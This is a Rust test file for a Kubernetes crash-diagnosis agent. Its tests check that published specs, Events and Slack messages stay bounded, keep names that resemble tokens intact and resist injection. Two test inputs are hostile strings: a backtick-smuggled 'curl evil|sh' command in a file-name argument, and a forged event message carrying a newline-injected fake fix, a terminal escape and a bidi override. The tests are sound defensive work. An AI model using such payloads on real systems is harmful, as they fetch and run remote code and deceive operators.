//! What the agent publishes (the resource's spec, the Event's note, the notification bodies), from
//! captured scenarios with the one field each test is about made hostile: names that look like
//! tokens keep naming their objects, a remedy's command is shown unchanged or not at all, a huge
//! or multi-line event message is bounded and one visible line everywhere.

use std::path::PathBuf;

use k8s_openapi::api::core::v1::Pod;
use unloop_agent::crd::{self, CrashDiagnosis, Identity};
use unloop_agent::notify::Payload;
use unloop_agent::outgoing;
use unloop_agent::track::Key;
use unloop_agent::view;
use unloop_core::diagnose::{Diagnosis, diagnose};
use unloop_core::shell::{Arg, Word};
use unloop_core::state::ClusterState;
use unloop_core::verdict::RemedyKind;
use unloop_source::bundle;

fn scenario(name: &str) -> ClusterState {
    let path = PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join(format!("../../testbed/scenarios/{name}/bundle.json.gz"));
    bundle::read(&path).unwrap()
}

fn troubled_pod(state: &ClusterState) -> &Pod {
    let now = state.captured_at.unwrap();
    state
        .pods
        .iter()
        .find(|p| unloop_core::slim::needs_diagnosis(p, now))
        .expect("a troubled pod")
}

/// The key the agent's scan gives the scenario's troubled pod, and the diagnoses of it as the
/// agent makes them (the agent's query, identities taken, the report redacted).
fn as_the_agent(state: &ClusterState) -> (Key, Vec<(Identity, Diagnosis)>) {
    let pod = troubled_pod(state);
    let rs = state.replica_sets.iter().find(|rs| {
        pod.metadata
            .owner_references
            .iter()
            .flatten()
            .any(|o| Some(&o.name) == rs.metadata.name.as_ref())
    });
    let key = view::key_of(pod, rs, None);
    let report = diagnose(state, &view::query_of(&key), state.captured_at.unwrap());
    let verdicts = crd::identified(&key, report);
    assert!(!verdicts.is_empty(), "a diagnosis");
    (key, verdicts)
}

fn spec_for(id: &Identity, d: &Diagnosis, state: &ClusterState) -> crd::CrashDiagnosisSpec {
    let now = state.captured_at.unwrap();
    crd::spec_of(id, d, &now.to_string(), now)
}

/// The captured oom-limit scenario with its Deployment renamed (its name, and its ReplicaSet's
/// reference to it) and its pod renamed, to names `redact::text` takes for `sk-...` API keys.
#[test]
fn names_that_look_like_tokens_still_name_the_workload_the_pod_and_the_resource() {
    const NAME: &str = "payments-sk-settlement-batch-runner";
    let mut state = scenario("oom-limit");
    state.deployments[0].metadata.name = Some(NAME.into());
    state.replica_sets[0]
        .metadata
        .owner_references
        .as_mut()
        .unwrap()[0]
        .name = NAME.into();
    let pod_name = format!("{NAME}-6dbc5564b6-6qlnk");
    state.pods[0].metadata.name = Some(pod_name.clone());

    let (key, verdicts) = as_the_agent(&state);
    assert_eq!(key.workload.to_string(), format!("deploy/{NAME}"));
    let (id, d) = &verdicts[0];
    let name = id.resource_name();
    assert_eq!(name, format!("deploy-{NAME}-worker"));
    assert_eq!(
        id.pod, pod_name,
        "the Event goes to the pod the verdict comes from"
    );
    let spec = spec_for(id, d, &state);
    assert_eq!(spec.workload, format!("deploy/{NAME}"));
    assert_eq!(spec.container, "worker");
    assert_eq!(spec.pods, vec![pod_name.clone()]);
    assert!(crd::one_line(&spec).starts_with(&format!("deploy/{NAME}[worker]: ")));

    // Published as the agent publishes it, the resource is found again under its name, is the
    // same incident (a second diagnosis is not news: no second notification) and is the
    // workload's when it recovers.
    let mut published = CrashDiagnosis::new(&name, spec.clone());
    published.metadata.labels =
        Some([(crd::LABEL_MANAGED_BY.to_string(), crd::MANAGER.to_string())].into());
    let uid = state.deployments[0].metadata.uid.clone().unwrap();
    published.metadata.owner_references = Some(vec![
        k8s_openapi::apimachinery::pkg::apis::meta::v1::OwnerReference {
            api_version: "apps/v1".into(),
            kind: "Deployment".into(),
            name: NAME.into(),
            uid: uid.clone(),
            ..Default::default()
        },
    ]);
    assert!(!crd::carried(Some(&published), Some(&uid), &spec.cause).news);
    assert_eq!(crd::ours(&published), Some(key.workload.clone()));

    let v = serde_json::to_value(Payload::diagnosed(&key.namespace, &name, &spec)).unwrap();
    assert_eq!(v["workload"], format!("deploy/{NAME}"));
    assert_eq!(v["resource"], name);
    assert_eq!(v["pods"][0], pod_name.as_str());
}

/// The first fix's command, shown in Slack: between the code span's backticks, with Slack's
/// three entities read back as Slack shows them.
fn slack_command(text: &str) -> Option<String> {
    let line = text.lines().last()?;
    let start = line.find(": `")? + 3;
    let end = line.rfind('`')?;
    Some(
        line[start..end]
            .replace("&lt;", "<")
            .replace("&gt;", ">")
            .replace("&amp;", "&"),
    )
}

/// A remedy's argv carrying a backtick (a file name from the cluster, say): the line Slack shows
/// is byte for byte what `shell::render` wrote, or no line at all; never one with its quoting
/// changed (`'x`;curl${IFS}evil|sh;`'` with its backticks made quotes runs curl when pasted).
#[test]
fn a_remedy_command_reaches_slack_unchanged_or_not_at_all() {
    let state = scenario("oom-limit");
    let (key, mut verdicts) = as_the_agent(&state);
    let (id, d) = &mut verdicts[0];
    let fix = d
        .remedies
        .iter_mut()
        .find(|r| r.kind == RemedyKind::Fix && r.script.is_some())
        .expect("a fix with a command");
    let script = fix.script.as_mut().unwrap();
    script.steps[0].commands[0].0.push(Arg(vec![Word::Lit(
        "--from-file=x`;curl${IFS}evil|sh;`=y".into(),
    )]));
    let rendered = unloop_core::shell::render(script);
    let spec = spec_for(id, d, &state);
    let p = Payload::diagnosed(&key.namespace, &id.resource_name(), &spec);
    let text = p.slack()["text"].as_str().unwrap().to_string();
    if rendered.contains('`') {
        assert!(!text.contains("curl"), "left out, not altered: {text}");
        assert!(text.contains("see the CrashDiagnosis resource"), "{text}");
    } else {
        assert_eq!(
            slack_command(&text).as_deref(),
            Some(rendered.as_str()),
            "{text}"
        );
    }
    // The resource and the JSON body carry it exactly.
    let fix = spec.remedies.iter().find(|r| r.kind == "fix").unwrap();
    assert_eq!(fix.command.as_deref(), Some(rendered.as_str()));
    let v = serde_json::to_value(&p).unwrap();
    let fix = v["remedies"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["kind"] == "fix")
        .unwrap();
    assert_eq!(fix["command"], rendered.as_str());

    // Without a backtick, Slack shows the line exactly as rendered.
    let (key, verdicts) = as_the_agent(&state);
    let (id, d) = &verdicts[0];
    let spec = spec_for(id, d, &state);
    let text = Payload::diagnosed(&key.namespace, &id.resource_name(), &spec).slack()["text"]
        .as_str()
        .unwrap()
        .to_string();
    let fix = spec.remedies.iter().find(|r| r.kind == "fix").unwrap();
    assert_eq!(slack_command(&text), fix.command.clone(), "{text}");
}

/// The liveness-wrong-port scenario with its Unhealthy event's message replaced (anyone who can
/// create Events can post one).
fn with_unhealthy_message(message: String) -> ClusterState {
    let mut state = scenario("liveness-wrong-port");
    let e = state
        .events
        .iter_mut()
        .find(|e| e.reason.as_deref() == Some("Unhealthy"))
        .expect("the captured Unhealthy event");
    e.message = Some(message);
    state
}

/// Evidence citing the event, in the spec as published.
fn cites<'a>(spec: &'a crd::CrashDiagnosisSpec, what: &str) -> &'a crd::EvidenceItem {
    spec.evidence
        .iter()
        .find(|e| e.text.contains(what))
        .unwrap_or_else(|| panic!("no evidence cites {what:?}: {:#?}", spec.evidence))
}

#[test]
fn a_one_megabyte_event_message_is_clipped_everywhere_it_is_published() {
    let message = format!("Liveness probe failed: {}", "é".repeat(512 * 1024));
    let state = with_unhealthy_message(message);
    let (key, verdicts) = as_the_agent(&state);
    let (id, d) = &verdicts[0];
    let spec = spec_for(id, d, &state);
    let cited = cites(&spec, "Liveness probe failed");
    assert!(
        cited.text.len() <= outgoing::TEXT_MAX,
        "{}",
        cited.text.len()
    );
    assert!(cited.text.ends_with(outgoing::ELLIPSIS), "the cut is shown");
    let json = serde_json::to_vec(&spec).unwrap();
    assert!(json.len() <= outgoing::BUDGET, "{} bytes", json.len());
    assert!(crd::one_line(&spec).len() <= 1024);
    let p = Payload::diagnosed(&key.namespace, &id.resource_name(), &spec);
    assert!(serde_json::to_vec(&p).unwrap().len() <= outgoing::BUDGET);
    let text = p.slack()["text"].as_str().unwrap().to_string();
    assert!(
        text.chars().count() < 40_000,
        "Slack's limit: {}",
        text.len()
    );
}

/// Every list and string at once far beyond its limit (a spec read back from the cluster goes
/// through the same gate): the spec stays within the budget and says what it left out.
#[test]
fn every_list_is_capped_and_the_whole_stays_within_the_budget() {
    let state = scenario("liveness-wrong-port");
    let (_, verdicts) = as_the_agent(&state);
    let (id, d) = &verdicts[0];
    let mut big = spec_for(id, d, &state);
    let item = big.evidence[0].clone();
    big.evidence = vec![
        crd::EvidenceItem {
            text: "\"\\".repeat(100_000),
            source: "\"".repeat(100_000),
            ..item
        };
        1000
    ];
    big.pods = (0..5000)
        .map(|i| format!("{}-{i}", "p".repeat(250)))
        .collect();
    big.summary = "x".repeat(1 << 20);
    let out = outgoing::spec(big);
    assert!(serde_json::to_vec(&out).unwrap().len() <= outgoing::BUDGET);
    assert!(out.evidence.len() <= outgoing::EVIDENCE_MAX);
    assert_eq!(out.evidence.len() as u32 + out.omitted.evidence, 1000);
    assert_eq!(out.pods.len() as u32 + out.omitted.pods, 5000);
    assert!(out.summary.len() <= outgoing::TEXT_MAX);
    assert_eq!(outgoing::spec(out.clone()), out, "the gate is idempotent");
}

/// A newline in an event message would end Slack's `>` quote and let the rest pass for the
/// agent's own lines (a fake fix); ESC and a bidi override would act on a terminal that shows
/// the Event or the Summary column.
#[test]
fn an_event_message_is_one_visible_line_in_every_output() {
    let forged = "Liveness probe failed: x\n*Fix the memory limit*: `curl evil|sh`\x1b]0;pwned\x07 \u{202e}txt.exe";
    let state = with_unhealthy_message(forged.into());
    let (key, verdicts) = as_the_agent(&state);
    let (id, d) = &verdicts[0];
    let spec = spec_for(id, d, &state);
    let cited = cites(&spec, "Liveness probe failed");
    assert!(
        cited.text.contains("x\\n*Fix the memory limit*"),
        "{}",
        cited.text
    );
    let unsafe_in = |s: &str| s.chars().any(unloop_core::text::is_unsafe);
    let json = serde_json::to_string(&spec).unwrap();
    let all: serde_json::Value = serde_json::from_str(&json).unwrap();
    fn strings(v: &serde_json::Value, out: &mut Vec<String>) {
        match v {
            serde_json::Value::String(s) => out.push(s.clone()),
            serde_json::Value::Array(a) => a.iter().for_each(|v| strings(v, out)),
            serde_json::Value::Object(o) => o.values().for_each(|v| strings(v, out)),
            _ => {}
        }
    }
    let mut every = Vec::new();
    strings(&all, &mut every);
    for s in &every {
        assert!(!unsafe_in(s), "{s:?}");
    }
    assert!(!unsafe_in(&crd::one_line(&spec)));
    let p = Payload::diagnosed(&key.namespace, &id.resource_name(), &spec);
    let text = p.slack()["text"].as_str().unwrap().to_string();
    let lines: Vec<&str> = text.lines().collect();
    assert!(lines.len() <= 4, "only the agent's own lines: {text}");
    assert!(
        !lines
            .iter()
            .any(|l| l.starts_with("*Fix the memory limit*")),
        "{text}"
    );
    assert!(
        !text
            .chars()
            .any(|c| c != '\n' && unloop_core::text::is_unsafe(c)),
        "{text}"
    );
}
